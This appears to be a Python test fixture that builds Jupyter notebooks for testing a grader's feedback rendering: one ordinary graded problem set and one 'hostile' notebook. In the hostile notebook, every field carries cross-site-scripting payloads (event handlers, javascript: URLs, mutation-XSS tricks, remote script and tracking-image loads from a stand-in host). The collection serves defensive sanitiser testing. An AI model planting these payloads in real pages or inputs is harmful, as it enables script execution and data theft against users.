"""Notebooks for the tests of the feedback: an ordinary graded one, and one in which everything is an attack."""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

#: A picture of one pixel.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
#: What an attack does when it works: each way is seen by the browser test.
DEED = "document.title='pwned';console.log('pwned');alert('pwned')"
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DEED}"><script>{DEED}</script>'
    '<rect width="9" height="9"/></svg>'
)
_CODED = "".join(f"&#{ord(letter)};" for letter in "javascript:") + DEED

#: Attacks in HTML, and in what turns into HTML.
PAYLOADS = (
    f"<script>{DEED}</script>",
    f"<ScRiPt >{DEED}</sCrIpT >",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    "<script src=//evil.invalid/a.js></script>",
    f'<img src=x onerror="{DEED}">',
    f"<img src=x onerror={DEED} ",
    f"<img/src=x/onerror={DEED}>",
    f'"><img src=x onerror="{DEED}">',
    f'\'-->]]></style></textarea></title></script><img src=x onerror="{DEED}">',
    f'<!--><img src=x onerror="{DEED}">-->',
    f'<![CDATA[><img src=x onerror="{DEED}">]]>',
    f'<svg onload="{DEED}"></svg>',
    f"<svg><script>{DEED}</script></svg>",
    f'<svg><animate onbegin="{DEED}" attributeName=x dur=1s></svg>',
    f'<svg><style><img src=x onerror="{DEED}"></style></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={DEED}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={DEED}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{DEED}">',
    f'<body onload="{DEED}">',
    f'<details open ontoggle="{DEED}"><summary>x</summary></details>',
    f'<video><source onerror="{DEED}"></video>',
    f'<audio src=x onerror="{DEED}"></audio>',
    f'<input autofocus onfocus="{DEED}">',
    f'<select autofocus onfocus="{DEED}"></select>',
    f'<div style="animation:x" onanimationstart="{DEED}"></div><style>@keyframes x{{}}</style>',
    f'<marquee onstart="{DEED}">x</marquee>',
    f'<iframe srcdoc="<script>parent.{DEED}</script>"></iframe>',
    f'<iframe src="javascript:parent.{DEED}"></iframe>',
    '<iframe src="https://evil.invalid/frame"></iframe>',
    f'<object data="data:text/html,<script>{DEED}</script>"></object>',
    '<embed src="//evil.invalid/embed.swf">',
    '<link rel=stylesheet href="//evil.invalid/a.css">',
    "<style>@import '//evil.invalid/b.css';*{display:none}</style>",
    '<base href="//evil.invalid/">',
    '<meta http-equiv=refresh content="0;url=//evil.invalid/refresh">',
    f'<form action="javascript:{DEED}"><button autofocus>Send</button></form>',
    f'<a href="javascript:{DEED}">link</a>',
    f'<a href=" &#14;java&#10;script:{DEED}">link</a>',
    f'<a href="{_CODED}">link</a>',
    f'<a href="data:text/html,<script>{DEED}</script>">link</a>',
    '<a href="vbscript:x" ping="//evil.invalid/ping">link</a>',
    '<p style="position:fixed;inset:0;background:red url(//evil.invalid/c.png)" class=skip id=questions>over</p>',
    '<img src="//evil.invalid/pixel.png"><img srcset="//evil.invalid/2.png 2x">'
    "<picture><source srcset=//evil.invalid/3.png></picture>",
    '<table background="//evil.invalid/d.png"><tr><td background="//evil.invalid/e.png">x</table>',
    f"<template><script>{DEED}</script></template><slot></slot>",
    f'<plaintext><xmp><img src=x onerror="{DEED}">',
    f'<img src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">',
    f'<img src="data:text/html;base64,{base64.b64encode(DEED.encode()).decode()}">',
    "</div></details></section></main></body></html><h1>Out</h1>",
    "<p>\x00\x08\ud800\u202e\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<b>",
)
#: Attacks in Markdown alone.
IN_MARKDOWN = (
    f"[link](javascript:{DEED})",
    f"[link](<javascript:{DEED}>)",
    f"[link][1]\n\n[1]: javascript:{DEED}",
    f"<javascript:{DEED}>",
    f'![a" onerror="{DEED}](x)',
    f'![x](x"onerror="{DEED})',
    "![far](https://evil.invalid/far.png)",
    f'$</code><img src=x onerror="{DEED}">$',
    f'$$\n<img src=x onerror="{DEED}">\n$$',
    f'\\begin{{align}}<img src=x onerror="{DEED}">\\end{{align}}',
    f'```"><img src=x onerror={DEED}>\ncode\n```',
    f'```mermaid\ngraph TD; A-->B; click A "javascript:{DEED}"\n```',
    f'`<img src=x onerror="{DEED}">`',
    f'# Heading <img src=x onerror="{DEED}">',
    "![attached](attachment:bad.svg) ![attached](attachment:false.png) ![attached](attachment:no)",
    f'![attached](attachment:a"onerror="{DEED})',
)
#: Kinds of output that a page could bring to life.
KINDS = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "text/vnd.mermaid",
    "image/svg+xml",
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/bmp",
    "application/javascript",
    "application/pdf",
    "application/xhtml+xml",
)
WIDGET = "application/vnd.jupyter.widget-view+json"


def marks(name: str, **given: Any) -> dict[str, Any]:
    """nbgrader's metadata of a cell."""
    usual = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    return {"nbgrader": {**usual, "grade_id": name, **given}}


def answer(name: str, source: str, outputs: Any = (), **given: Any) -> NotebookNode:
    """A cell with the student's code."""
    return new_code_cell(source, metadata=marks(name, solution=True, **given), outputs=list(outputs))


def checked(
    name: str, source: str, outputs: Any = (), *, score: float = 0, points: float = 2
) -> NotebookNode:
    """A test cell, graded."""
    given = {"grade": True, "locked": True, "points": points, "score": score}
    return new_code_cell(source, metadata=marks(name, **given), outputs=list(outputs))


def error(name: str = "AssertionError", words: str = "", line: int = 1, **given: Any) -> NotebookNode:
    """The error of a test cell, as IPython writes it."""
    trace = [
        "-" * 75,
        f"{name}      Traceback (most recent call last)",
        f"Cell In[3], line {line}\n----> {line} code",
    ]
    return new_output(
        "error", ename=name, evalue=words, traceback=given.get("traceback", [*trace, f"{name}: {words}"])
    )


def told(**given: Any) -> dict[str, Any]:
    """The resources that nbgrader passes with a notebook."""
    usual = {"assignment": "ps1", "notebook": "problem1", "student": "ada", "late_penalty": 0.0}
    return {"metadata": {"name": "problem1", "path": ""}, "nbgrader": {**usual, **given}}


def hostile() -> NotebookNode:
    """A notebook in which every part that a student could write is an attack."""
    image = f'<img src=x onerror="{DEED}">'
    attachments = {
        "bad.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()},
        "false.png": {"image/png": base64.b64encode(image.encode()).decode()},
        f'a"onerror="{DEED}': {"image/png": f'{PIXEL}" onerror="{DEED}'},
    }
    cells = []
    for number, payload in enumerate((*PAYLOADS, *IN_MARKDOWN)):
        cells.append(new_markdown_cell(payload, attachments=attachments))
        outputs = [
            new_output("display_data", data={"text/html": payload}),
            new_output("stream", name=("stdout", "stderr")[number % 2], text=payload),
        ]
        cells.append(new_code_cell(payload, outputs=outputs))
        cells.append(new_raw_cell(payload, metadata={"raw_mimetype": ("", "text/html")[number % 2]}))
    for kind in KINDS:
        for payload in (PAYLOADS[0], PAYLOADS[4], PAYLOADS[7], _SVG, f'{PIXEL}" onerror="{DEED}', DEED):
            metadata = {
                kind: {"alt": payload, "width": payload, "isolated": True},
                "filenames": {kind: payload},
            }
            cells.append(
                new_code_cell(
                    "x", outputs=[new_output("display_data", data={kind: payload}, metadata=metadata)]
                )
            )
    view = {"version_major": 2, "version_minor": 0, "model_id": f"</script>{image}"}
    cells.append(new_code_cell("w", outputs=[new_output("display_data", data={WIDGET: view})]))
    for payload in PAYLOADS:
        wrong = new_output(
            "error", ename=payload, evalue=payload, traceback=[f"\x1b[0;31m{payload}\x1b[0m", payload]
        )
        cells.append(new_markdown_cell(f"## {payload}\n\n{payload}"))
        comment = {"comment": f"{payload}\n\n[x](javascript:{DEED})"}
        cells.append(answer(f"a{len(cells)}", payload, [wrong], **comment))
        cells.append(checked(f"t{len(cells)}", "assert f(1) == 2", [wrong], score=1))
        card = new_output(
            "display_data", data={"text/html": f'<div class="digital-biopsy-check">{payload}</div>'}
        )
        cells.append(checked(f"c{len(cells)}", "assert f(1) == 2", [card]))
        cells.append(
            new_markdown_cell(
                f"<details><summary>{payload}</summary>{payload}</details>", attachments=attachments
            )
        )
        written = marks(f"w{len(cells)}", solution=True, grade=True, points=1, score=0, **comment)
        cells.append(new_markdown_cell(payload, metadata=written, attachments=attachments))
    for cell in cells[:40]:
        cell.metadata.update(tags=[image, f'" onclick="{DEED}'], name=image, magics_language=image)
    flags = [{"kind": "x", "cell": "x", "text": payload} for payload in PAYLOADS]
    metadata = {
        "title": f"</title>{image}",
        "language_info": {"name": f'"><script>{DEED}</script>', "pygments_lexer": image},
        "kernelspec": {"name": image, "display_name": image, "language": image},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": f"</script>{image}"}},
        "digital_biopsy": {"flags": flags},
        "authors": [{"name": image}],
    }
    notebook = new_notebook(cells=cells, metadata=metadata)
    for number, cell in enumerate(cells[:40]):
        cell.id = f"{image}{number}"  # not valid, and yet a file may hold it
    return notebook


def ordinary() -> NotebookNode:
    """A graded notebook of an ordinary course: plain asserts, hidden tests, a written answer, a task."""
    style = "<style scoped>td{color:red}</style>"
    frame = "<table border='1' class='dataframe'><thead><tr><th>mean</th></tr></thead>"
    table = f"<div>{style}{frame}<tbody><tr><td>3.5</td></tr></tbody></table></div>"
    picture = {"image/png": PIXEL, "text/plain": "<Figure size 640x480 with 1 Axes>"}
    cells = [
        new_markdown_cell("# Problem set 1\n\nBe brief."),
        new_markdown_cell("## 1 Squares (2 points)\n\nWrite `squares(n)`, the list of $x^2$ up to $n$."),
        answer("squares", "def squares(n):\n    return [x ** 2 for x in range(1, n + 1)]"),
        checked("squares-test", "assert squares(2) == [1, 4]", score=2),
        new_markdown_cell("## 2 Sums\n\nAdd the squares."),
        answer(
            "sums",
            "def sums(n):\n    print('sum is', n)\n    return n",
            comment="Use `sum`: **see** the notes.",
        ),
        new_code_cell("sums(6)", outputs=[new_output("stream", text="sum is 6\n")]),
        checked(
            "sums-test",
            "assert sums(1) == 1\nassert sums(\n    2\n) == 5, 'the sum is 5'",
            [error(words="the sum is 5", line=2)],
        ),
        checked(
            "sums-test-2",
            "assert sums(0) == 0\n### BEGIN HIDDEN TESTS\nassert sums(77) == 4\n### END HIDDEN TESTS",
            [new_output("stream", text="secret 77"), error(words="secret 77", line=3)],
        ),
        new_markdown_cell("<details><summary>Hint</summary>Use squares.</details>"),
        new_markdown_cell("### In words"),
        new_markdown_cell(
            "# My words\n\nLonger.",
            metadata=marks("essay", solution=True, grade=True, points=3, score=0, comment="Good."),
        ),
        new_markdown_cell(
            "## 4 Plot\n\nDraw it.\n\n### BEGIN MARK SCHEME\none point for a title\n### END MARK SCHEME",
            metadata=marks("plot", task=True, points=1, score=1, comment=""),
        ),
        new_code_cell(
            "plt.plot(x)",
            outputs=[
                new_output("display_data", data=picture),
                new_output(
                    "execute_result", data={"text/html": table, "text/plain": "mean 3.5"}, execution_count=1
                ),
            ],
        ),
        answer("untried", "raise NotImplementedError()", comment="No response."),
        checked("untried-test", "assert untried() == 1", [error("NotImplementedError")]),
    ]
    flags = [
        {"kind": "deleted", "cell": "sums-test", "text": "A test cell was missing; it was put back."},
        {"kind": "other", "cell": "", "text": "The notebook was of an old format."},
    ]
    return new_notebook(cells=cells, metadata={"digital_biopsy": {"flags": flags}})
